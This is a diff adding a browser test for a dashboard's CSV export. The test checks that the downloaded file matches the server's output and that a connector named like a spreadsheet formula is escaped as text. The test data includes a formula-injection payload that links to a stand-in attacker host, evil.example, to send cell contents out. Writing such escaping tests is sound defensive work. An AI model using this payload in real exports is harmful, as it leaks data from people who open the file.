@@ -4,6 +4,8 @@ insight, the empty state, a missing or refused key, a phone's width, and the REA
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 import os
 import shutil
@@ -171,6 +173,41 @@ def test_dashboard(server: str, browser: Any, dsn: str) -> None:
     wait_for(browser, lambda d: not d.find_elements(By.CSS_SELECTOR, "#insight-list li.active"))
     dismissed = graphql(server, token, "{ insights(status: DISMISSED) { dismissReason } }")["insights"]
     assert dismissed == [{"dismissReason": "partner upgrades in May"}]
+
+
+def test_the_csv_is_the_servers_for_the_filters_shown(server: str, browser: Any, dsn: str) -> None:
+    """The download is the server's CSV, byte for byte (fetched with the page's key and filters): its name,
+    its 19 columns, and a connector named like a formula kept a text."""
+    token = new_key(dsn, f"browser-csv-{uuid.uuid4().hex[:8]}")
+    headers = {"authorization": f"Bearer {token}"}
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    for name in (formula, "Woodgrove"):
+        connector = {"name": name, "direction": "outbound", "type": "partner"}
+        assert httpx.post(f"{server}/api/v1/connectors", json=connector, headers=headers).status_code == 201
+    records = [message(400 + n, "TLSv1.2", "outbound", connector=name) for n, name in enumerate([formula] * 3)]
+    records.append(message(410, "TLSv1.3", "outbound", connector="Woodgrove"))
+    assert httpx.post(f"{server}/api/v1/messages", json=records, headers=headers).status_code == 200
+    open_dashboard(browser, f"{server}/#key={token}")
+    wait_for(browser, lambda d: d.find_element(By.CSS_SELECTOR, "#card-outbound [data-total]").text == "4")
+    Select(browser.find_element(By.NAME, "direction")).select_by_value("OUTBOUND")
+    browser.find_element(By.NAME, "connectorName").send_keys("=hyper")  # the filters go with the download
+    browser.find_element(By.CSS_SELECTOR, "#filters button[type=submit]").click()
+    wait_for(browser, lambda d: len(d.find_elements(By.CSS_SELECTOR, "#report tbody tr.connector")) == 1)
+    for earlier in browser.downloads.glob("*.csv"):  # another test's download, maybe under the same name
+        earlier.unlink()
+    browser.find_element(By.ID, "export").click()
+    downloaded = wait_for(browser, lambda d: next(iter(d.downloads.glob("*.csv")), None))
+
+    params = {"format": "csv", "direction": "outbound", "connector_name": "=hyper"}
+    params["time_zone"] = browser.find_element(By.NAME, "timeZone").get_attribute("value") or "UTC"
+    served = httpx.get(f"{server}/api/v1/connector-report", params=params, headers=headers)
+    assert served.status_code == 200, served.text
+    name = served.headers["content-disposition"].split('filename="')[1].rstrip('"')
+    assert downloaded.name == name
+    assert wait_for(browser, lambda d: downloaded.read_bytes() or None) == served.content
+    rows = list(csv.reader(io.StringIO(served.text)))
+    assert len(rows[0]) == 19
+    assert [(row[1], row[2]) for row in rows[1:]] == [("outbound", "'" + formula)]
 
 
 def test_range_presets_tls_reports_and_client_submissions(server: str, browser: Any, dsn: str) -> None:
